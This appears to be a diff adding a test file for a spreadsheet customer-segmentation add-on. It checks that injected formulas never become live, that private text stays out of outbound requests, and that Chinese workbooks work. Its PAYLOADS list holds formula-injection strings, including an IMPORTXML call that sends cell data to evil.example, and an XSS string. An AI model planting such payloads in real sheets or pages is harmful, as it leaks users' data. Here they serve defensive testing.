@@ -1,0 +1,149 @@
+/** Text that is dangerous, private or in another language, in every text column of a workbook. */
+import { describe, expect, it } from 'vitest'
+import type { Value } from '../../playground/workbook/cell.ts'
+import { Workbook } from '../../playground/workbook/workbook.ts'
+import { cellOf, fill, openShop, readyShop, setUp, shopWorkbook, tabOf, update } from './shop.ts'
+
+const PAYLOADS = [
+  '=IMPORTXML("http://evil.example/"&A1)',
+  '+1+1',
+  '-2+3',
+  '@SUM(1)',
+  "'=1",
+  '\t=1',
+  '＝1+1',
+  '=HYPERLINK("http://evil.example","x")',
+  '<img src=x onerror=alert(1)>',
+]
+
+describe('formula payloads', () => {
+  it('in every text column become no formula in any owned column or tab', () => {
+    const workbook = new Workbook({ locale: 'en_US' })
+    const orders: Value[][] = [
+      ['Order ID', 'Customer ID', 'Customer Name', 'Date', 'Amount', 'Category', 'Status', 'Currency'],
+    ]
+    PAYLOADS.forEach((text, k) => {
+      orders.push([text, text, text, '2026-01-05', 10 + k, text, text, text.slice(0, 9)])
+      orders.push([`o${k}`, `c${k}`, text, text, text, text, text, ''])
+      orders.push([`p${k}`, text, text, '2026-02-05', 5, text, 'paid', ''])
+    })
+    fill(workbook, 'Orders', orders)
+    const host = openShop(workbook)
+    setUp(host, {
+      columns: ['segment', 'tier', 'nextContact', 'why'],
+      settings: { tiers: { levels: PAYLOADS.slice(0, 3).map((name, k) => ({ name, up: k * 12 })) } },
+    })
+    expect(update(host).problems).toBeGreaterThan(10)
+    expect(update(host).changedCells).toBe(0)
+    for (const name of ['Customers', 'Problems', 'Regulars memory']) {
+      const sheet = tabOf(workbook, name)
+      for (let row = 1; row <= sheet.lastRow(); row++) {
+        for (let column = 1; column <= sheet.lastColumn(); column++) {
+          expect(sheet.look(row, column)?.formula, `${name} ${row}/${column}`).toBeUndefined()
+          expect(sheet.look(row, column)?.link ?? '#gid').toMatch(/^#gid/)
+        }
+      }
+    }
+    const customers = tabOf(workbook, 'Customers')
+    // Spaces and control characters around a name are no part of it.
+    const names = customers
+      .values()
+      .slice(1, -1)
+      .map((row) => row[1])
+    for (const name of names)
+      expect(PAYLOADS.map((text) => text.trim().replace(/^'/, ''))).toContain(String(name).replace(/^'/, ''))
+  })
+
+  it('typed over a tier stay text in the override column', () => {
+    const host = readyShop()
+    update(host)
+    const sheet = tabOf(host.workbook, 'Customers')
+    sheet.setValue(2, sheet.columnOf('Tier'), '=IMPORTXML("x")')
+    update(host)
+    expect(String(cellOf(sheet, 'C001', 'Tier override'))).toMatch(/^'?=IMPORTXML/)
+    expect(sheet.look(2, sheet.columnOf('Tier override'))?.formula).toBeUndefined()
+  })
+})
+
+describe('problems', () => {
+  const dirty = () => {
+    const workbook = shopWorkbook()
+    const orders = tabOf(workbook, 'Orders')
+    orders.setValue(1, 6, 'Status')
+    orders.setValue(3, 3, 'Canary Nameless called')
+    orders.setValue(4, 4, 'about the parcel for Mrs Canaryperson in the blue house')
+    orders.setValue(5, 5, 'for canary@person.example')
+    orders.setValue(6, 6, 'Canarystatus')
+    orders.setValue(7, 2, '')
+    return workbook
+  }
+
+  it('name tab, row, column and the cell’s own text, with a link, and nothing of it travels', () => {
+    const host = readyShop(dirty())
+    const report = update(host)
+    expect(report.problemsByCode).toEqual({ badDate: 1, privateText: 2, unknownStatus: 1, missingId: 1 })
+    expect(host.requests.map(({ text }) => text).join()).not.toMatch(/canary/i)
+    const tab = tabOf(host.workbook, 'Problems')
+    const lines = tab
+      .values()
+      .slice(2)
+      .map((row) => row.slice(0, 4))
+    expect(tab.value(1, 1)).toBe('5 in all.')
+    expect(lines).toContainEqual(['Orders', '3', 'Order date', 'Canary Nameless called'])
+    expect(lines).toContainEqual(['Orders', '5', 'Category', 'for canary@person.example'])
+    expect(lines).toContainEqual(['Orders', '7', 'Customer ID', ''])
+    expect(lines[0][2]).toMatch(/Amount|Category/)
+    expect(tab.look(3, 2)?.link).toMatch(/^#gid=0&range=[DE]\d$/)
+  })
+
+  it('vanish from the tab when the rows are put right, and it is not made where there are none', () => {
+    const clean = readyShop()
+    update(clean)
+    expect(clean.workbook.sheet('Problems')).toBeUndefined()
+    const host = readyShop(dirty())
+    update(host)
+    const orders = tabOf(host.workbook, 'Orders')
+    const right = tabOf(shopWorkbook(), 'Orders')
+    for (let row = 2; row <= 8; row++)
+      for (let column = 1; column <= 6; column++) orders.setValue(row, column, right.value(row, column))
+    expect(update(host).problems).toBe(0)
+    expect(
+      tabOf(host.workbook, 'Problems')
+        .values()
+        .flat()
+        .filter((value) => value !== ''),
+    ).toEqual(['No row needs a look.'])
+  })
+})
+
+describe('a Chinese workbook', () => {
+  it('is read and written in Chinese, and either language is understood in a typed cell', () => {
+    const workbook = new Workbook({ locale: 'zh_CN', timeZone: 'Asia/Shanghai' })
+    const orders: Value[][] = [['订单号', '客户编号', '姓名', '下单时间', '实付', '品类', '状态']]
+    for (let k = 0; k < 12; k++)
+      orders.push([
+        `d${k}`,
+        `客${k % 4}`,
+        `王小${k}`,
+        `2026/${(k % 9) + 1}/${k + 1}`,
+        `¥${100 + k}`,
+        '奶粉',
+        k === 5 ? '已退款' : '已完成',
+      ])
+    fill(workbook, '订单', orders)
+    const host = openShop(workbook, { userLocale: 'zh_CN' })
+    host.run('onOpen')
+    expect(host.menus[0]).toMatchObject({ caption: '常客' })
+    setUp(host)
+    expect(update(host).problems).toBe(0)
+    const sheet = tabOf(workbook, '客户')
+    expect(sheet.values()[0].slice(0, 5)).toEqual(['客户编号', '姓名', '客户分群', '会员等级', '下次联系'])
+    expect(String(cellOf(sheet, '客0', '客户分群', '客户编号'))).toMatch(/客户|忠诚|流失|关注/)
+    expect(host.requests.map(({ text }) => text).join()).not.toMatch(/王小|客0/)
+    sheet.setValue(2, 3, 'Champions')
+    expect(update(host).typedCells).toBe(1)
+    expect(sheet.value(2, 3)).toBe('冠军客户')
+    expect(cellOf(sheet, '客0', '指定分群原因', '客户编号')).toBe('2026-11-22 手动输入')
+    expect(host.toasts[host.toasts.length - 1].message).toMatch(/^客户 4 位/)
+  })
+})
